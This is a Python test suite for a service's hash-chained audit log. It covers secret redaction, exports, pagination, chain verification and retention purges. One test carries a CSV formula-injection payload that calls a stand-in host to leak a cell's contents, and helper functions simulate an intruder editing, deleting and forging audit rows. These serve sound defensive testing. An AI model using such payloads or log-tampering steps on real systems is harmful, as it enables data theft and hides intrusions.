"""The audit trail: sanitised, filtered, paginated, exported and hash-chained."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import time
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from sqlalchemy import delete, func, insert, select, update

from legator.core.audit.models import AuditEvent
from legator.core.audit.service import PURGE_ACTION, RETENTION_ACTOR, AuditFilter, AuditService
from legator.core.config import Settings
from legator.core.db import Database, new_id, retention, utcnow
from legator.core.db.migrate import upgrade
from tests.support import LiveServer, eventually, first_started, live_server

CHAIN_KEY = "test-chain-key-0123456789"


def test_details_are_sanitised(api: httpx.Client, server: LiveServer) -> None:
    assert server.core is not None
    server.call(
        server.core.audit.log(
            actor="admin",
            action="test.secret",
            target="https://bob:hunter2@example.com/x",
            details={"password": "hunter2", "note": "Authorization: Bearer abcdefghijklmnop"},
        )
    )
    event = api.get("/api/v1/audit", params={"action": "test.secret"}).json()["events"][0]
    dumped = json.dumps(event)
    assert "hunter2" not in dumped and "abcdefghijklmnop" not in dumped
    assert event["details"]["password"] == "[REDACTED]"


def test_long_details_are_clipped(api: httpx.Client, server: LiveServer) -> None:
    assert server.core is not None
    huge = "y" * 1_000_000
    server.call(
        server.core.audit.log(
            actor="admin", action="test.huge", details={"note": huge, "items": [{huge: huge}]}
        )
    )
    event = api.get("/api/v1/audit", params={"action": "test.huge"}).json()["events"][0]
    assert event["details"]["note"] == "y" * 8192 + "…[clipped]"
    ((key, value),) = event["details"]["items"][0].items()
    assert len(key) == len(value) == 8192 + len("…[clipped]")


def test_filters_and_cursor_pagination(api: httpx.Client) -> None:
    for i in range(7):
        api.post("/api/v1/keys", json={"name": f"k{i}"})
    seen: list[str] = []
    cursor = None
    while True:
        params = {"action": "api_key.create", "limit": 3}
        if cursor:
            params["cursor"] = cursor
        page = api.get("/api/v1/audit", params=params).json()
        seen += [e["id"] for e in page["events"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert len(seen) == 7 == len(set(seen))
    bad = api.get("/api/v1/audit", params={"cursor": "garbage!"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "bad_request"
    naive = api.get("/api/v1/audit", params={"since": "2026-01-01T00:00:00"})
    assert naive.status_code == 400


def test_exports(api: httpx.Client) -> None:
    api.post("/api/v1/keys", json={"name": "exported"})
    ndjson = api.get("/api/v1/audit/export").text.strip().splitlines()
    records = [json.loads(line) for line in ndjson]
    assert records[0]["action"] == "system.bootstrap"  # oldest first
    assert any(r["action"] == "api_key.create" for r in records)
    response = api.get("/api/v1/audit/export", params={"format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == len(records)
    assert rows[0]["action"] == "system.bootstrap"


async def _tamper(url: str) -> None:
    """Change one stored event behind the server's back, as an intruder with the file would."""
    db = Database(url)
    try:
        async with db.write() as session:
            await session.execute(
                update(AuditEvent)
                .where(AuditEvent.action == "api_key.create", AuditEvent.seq == 3)
                .values(actor="someone-else")
            )
    finally:
        await db.dispose()


def test_chain_verifies_and_detects_tampering(tmp_path: Path) -> None:
    with (
        live_server(tmp_path / "d", audit_chain_key=CHAIN_KEY) as server,
        server.client(server.admin_key) as api,
    ):
        for i in range(5):
            api.post("/api/v1/keys", json={"name": f"c{i}"})
        report = api.get("/api/v1/audit/verify").json()
        assert report == {**report, "chained": True, "ok": True, "checked": 6}
        assert server.core is not None
        asyncio.run(_tamper(server.core.settings.effective_database_url))
        broken = api.get("/api/v1/audit/verify").json()
        assert broken["ok"] is False and broken["first_break"]
        assert "broken" in broken["message"]


def test_csv_export_neutralises_formulas(api: httpx.Client, server: LiveServer) -> None:
    assert server.core is not None
    formula = '=hyperlink("http://e.example/?"&b3,"open")'
    for actor in (formula, "+1", "-1", "@sum(a1)", "\tx", "\rx"):
        server.call(server.core.audit.log(actor=actor, action="test.formula", target=actor))
    response = api.get("/api/v1/audit/export", params={"format": "csv", "action": "test.formula"})
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["actor"] for r in rows] == ["'" + formula, "'+1", "'-1", "'@sum(a1)", "'\tx", "'\rx"]
    assert all(r["target"] == r["actor"] for r in rows)
    ndjson = api.get("/api/v1/audit/export", params={"action": "test.formula"}).text
    assert json.loads(ndjson.splitlines()[0])["actor"] == formula  # JSON stays as it was


def test_verify_without_key_says_so(api: httpx.Client) -> None:
    report = api.get("/api/v1/audit/verify").json()
    assert report["chained"] is False
    assert "LEGATOR_AUDIT_CHAIN_KEY" in report["message"]


def test_bundle_holds_events_report_and_manifest(api: httpx.Client) -> None:
    api.post("/api/v1/keys", json={"name": "bundled"})
    response = api.get("/api/v1/audit/export/bundle")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert sorted(archive.namelist()) == ["events.ndjson", "manifest.json", "verification.json"]
    manifest = json.loads(archive.read("manifest.json"))
    for entry in manifest["files"]:
        data = archive.read(entry["name"])
        assert hashlib.sha256(data).hexdigest() == entry["sha256"] and len(data) == entry["size"]
    lines = archive.read("events.ndjson").decode().splitlines()
    assert manifest["events"] == len(lines) >= 2


def test_purge_keeps_the_chain_verifiable_and_is_audited(tmp_path: Path) -> None:
    with (
        live_server(tmp_path / "d", audit_chain_key=CHAIN_KEY) as server,
        server.client(server.admin_key) as api,
    ):
        for i in range(3):
            api.post("/api/v1/keys", json={"name": f"old{i}"})
        time.sleep(0.05)
        cutoff = datetime.now(UTC).isoformat()
        time.sleep(0.05)
        api.post("/api/v1/keys", json={"name": "new"})
        response = api.delete("/api/v1/audit", params={"older_than": cutoff})
        assert response.status_code == 200, response.text
        assert response.json()["deleted"] == 4  # bootstrap + 3 keys
        events = api.get("/api/v1/audit").json()["events"]
        assert [e["action"] for e in events] == ["audit.purge", "api_key.create"]
        assert events[0]["details"]["deleted"] == 4
        report = api.get("/api/v1/audit/verify").json()
        assert report["ok"] is True and report["checked"] == 2, report
        assert api.delete("/api/v1/audit", params={"older_than": "soon"}).status_code == 400
        assert server.core is not None
        asyncio.run(_delete_oldest(server.core.settings.effective_database_url))
        silent = api.get("/api/v1/audit/verify").json()
        assert silent["ok"] is False and "no purge" in silent["message"]


async def _delete_oldest(url: str) -> None:
    """Remove the oldest event without a recorded purge, as an intruder would."""
    db = Database(url)
    try:
        async with db.write() as session:
            oldest = select(func.min(AuditEvent.seq)).scalar_subquery()
            await session.execute(delete(AuditEvent).where(AuditEvent.seq == oldest))
    finally:
        await db.dispose()


def test_purge_needs_audit_admin(make_user) -> None:  # type: ignore[no-untyped-def]
    auditor = make_user("auditor")
    assert auditor.delete("/api/v1/audit", params={"older_than": "1d"}).status_code == 403


def test_scheduled_purge_goes_in_batches_each_recorded(
    tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(retention, "PRUNE_PAUSE_S", 0)
    with (
        live_server(
            tmp_path / "d", database_url=db_url, audit_chain_key=CHAIN_KEY, secrets_kek="ab" * 32
        ) as server,
        server.client(server.admin_key) as api,
    ):
        for i in range(11):
            api.post("/api/v1/keys", json={"name": f"old{i}"})
        time.sleep(0.05)
        cutoff = datetime.now(UTC)
        time.sleep(0.05)
        api.post("/api/v1/keys", json={"name": "new"})
        assert server.core is not None
        audit = server.core.audit
        purge = audit.purge_in_batches(cutoff, actor=RETENTION_ACTOR, batch=5)
        assert server.call(purge) == 12  # the bootstrap and 11 keys, in batches of 5, 5, 2
        events = api.get("/api/v1/audit").json()["events"]
        purges = [e for e in events if e["action"] == "audit.purge"]
        assert [p["details"]["deleted"] for p in reversed(purges)] == [5, 5, 2]
        assert {p["actor"] for p in purges} == {RETENTION_ACTOR}
        assert [e["action"] for e in events if e["action"] != "audit.purge"] == ["api_key.create"]
        report = api.get("/api/v1/audit/verify").json()
        assert report["ok"] is True and report["checked"] == 4, report
        # Nothing old enough: nothing deleted, nothing recorded.
        assert server.call(audit.purge_in_batches(cutoff, actor=RETENTION_ACTOR)) == 0
        assert len(api.get("/api/v1/audit").json()["events"]) == 4


async def _age_every_event(url: str, days: int) -> None:
    db = Database(url)
    try:
        async with db.write() as session:
            await session.execute(
                update(AuditEvent).values(ts=datetime.now(UTC) - timedelta(days=days))
            )
    finally:
        await db.dispose()


async def _actions(url: str) -> list[str]:
    db = Database(url)
    try:
        async with db.session() as session:
            rows = await session.scalars(select(AuditEvent.action).order_by(AuditEvent.seq))
            return list(rows)
    finally:
        await db.dispose()


def test_a_server_purges_audit_events_past_their_retention(tmp_path: Path) -> None:
    data = tmp_path / "d"
    url = first_started(data)
    assert asyncio.run(_actions(url)) == ["system.bootstrap"]
    asyncio.run(_age_every_event(url, days=40))
    with live_server(data, audit_retention_days=30):
        eventually(lambda: asyncio.run(_actions(url)), ["audit.purge"])


async def _chained_log(url: str, *, unchained: int = 0, chained: int = 3) -> AuditService:
    """A migrated database with ``unchained`` events written before the chain key was set
    and ``chained`` after it."""
    db = Database(Settings(database_url=url).effective_database_url)
    await upgrade(db)
    for i in range(unchained):
        await AuditService(db).log(actor="admin", action="test.before_key", target=str(i))
    audit = AuditService(db, CHAIN_KEY.encode())
    for i in range(chained):
        await audit.log(actor="admin", action="test.event", target=str(i))
    return audit


async def _rows(audit: AuditService) -> list[tuple[int, str, str | None]]:
    async with audit.db.session() as session:
        query = select(AuditEvent.seq, AuditEvent.id, AuditEvent.hash).order_by(AuditEvent.seq)
        return [(seq, id_, hash_) for seq, id_, hash_ in (await session.execute(query)).all()]


async def _forge(audit: AuditService, seq: int, action: str, details: dict[str, object]) -> str:
    """Insert an unhashed row at ``seq``, as an intruder with write access to the database."""
    event_id = new_id()
    async with audit.db.write() as session:
        await session.execute(
            insert(AuditEvent).values(
                seq=seq,
                id=event_id,
                ts=utcnow(),
                actor=RETENTION_ACTOR,
                action=action,
                target="audit",
                outcome="success",
                details=details,
                request_id="",
            )
        )
    return event_id


def test_a_forged_purge_record_does_not_cover_deleted_events(db_url: str) -> None:
    async def scenario() -> None:
        audit = await _chained_log(db_url, chained=4)
        try:
            assert (await audit.verify()).ok
            rows = await _rows(audit)
            async with audit.db.write() as session:
                await session.execute(delete(AuditEvent).where(AuditEvent.seq <= rows[1][0]))
            report = await audit.verify()
            assert not report.ok and "no purge" in report.message
            # An unhashed purge record naming the new oldest event, in a freed slot.
            details = {"older_than": utcnow().isoformat(), "deleted": 2, "anchor": rows[2][1]}
            await _forge(audit, rows[0][0], PURGE_ACTION, details)
            report = await audit.verify()
            assert not report.ok and report.first_break == rows[2][1], report
            assert "no purge" in report.message
            # Nor does one appended after the chain.
            await _forge(audit, rows[-1][0] + 10, PURGE_ACTION, details)
            assert not (await audit.verify()).ok
        finally:
            await audit.db.dispose()

    asyncio.run(scenario())


def test_rows_at_positions_never_handed_out_are_verified_and_exported(db_url: str) -> None:
    async def scenario() -> None:
        audit = await _chained_log(db_url)
        try:
            fake = await _forge(audit, -5, "secret.read", {})
            report = await audit.verify()
            assert not report.ok and report.first_break == fake, report
            exported = [e.id async for e in audit.iterate(AuditFilter())]
            assert exported[0] == fake and len(exported) == 4
            ndjson = "".join([line async for line in audit.export_ndjson(AuditFilter())])
            assert fake in ndjson
        finally:
            await audit.db.dispose()

    asyncio.run(scenario())


def test_real_purges_verify_and_rows_slipped_in_before_them_do_not(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(retention, "PRUNE_PAUSE_S", 0)

    async def scenario() -> None:
        # The key was set on an existing log: two unchained events, then the chain.
        audit = await _chained_log(db_url, unchained=2, chained=3)
        try:
            report = await audit.verify()
            assert (report.ok, report.unchained, report.checked) == (True, 2, 3), report
            rows = await _rows(audit)
            # An unhashed row before the chain's start counts as one written before the key.
            assert rows[1][2] is None and rows[2][2] is not None
            await asyncio.sleep(0.02)
            cutoff = utcnow()
            await asyncio.sleep(0.02)
            await audit.log(actor="admin", action="test.event", target="new")
            # One unchained event goes, then two: each batch recorded, verifiable after each.
            assert await audit.purge_in_batches(cutoff, actor="t", batch=1) == 5
            report = await audit.verify()
            assert (report.ok, report.unchained, report.checked) == (True, 0, 6), report
            # A row slipped in where the purged ones were is caught.
            fake = await _forge(audit, rows[0][0], "secret.read", {})
            report = await audit.verify()
            assert not report.ok and report.first_break == fake, report
            async with audit.db.write() as session:
                await session.execute(delete(AuditEvent).where(AuditEvent.id == fake))
            assert (await audit.verify()).ok
            # A purge of everything leaves its own record as the anchor.
            result = await audit.purge(utcnow(), actor="admin")
            report = await audit.verify()
            assert (report.ok, report.checked, report.anchor) == (True, 1, result.anchor), report
        finally:
            await audit.db.dispose()

    asyncio.run(scenario())


def test_a_purge_of_unchained_events_only_keeps_the_chain_verifiable(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(retention, "PRUNE_PAUSE_S", 0)

    async def scenario() -> None:
        audit = await _chained_log(db_url, unchained=2, chained=0)
        try:
            await asyncio.sleep(0.02)
            cutoff = utcnow()
            await asyncio.sleep(0.02)
            await AuditService(audit.db).log(actor="admin", action="test.before_key")
            await audit.log(actor="admin", action="test.event")
            assert await audit.purge_in_batches(cutoff, actor="t") == 2
            report = await audit.verify()
            assert (report.ok, report.unchained, report.checked) == (True, 1, 2), report
            rows = await _rows(audit)
            fake = await _forge(audit, rows[0][0] - 1, "secret.read", {})
            report = await audit.verify()
            assert not report.ok and report.first_break == fake, report
        finally:
            await audit.db.dispose()

    asyncio.run(scenario())
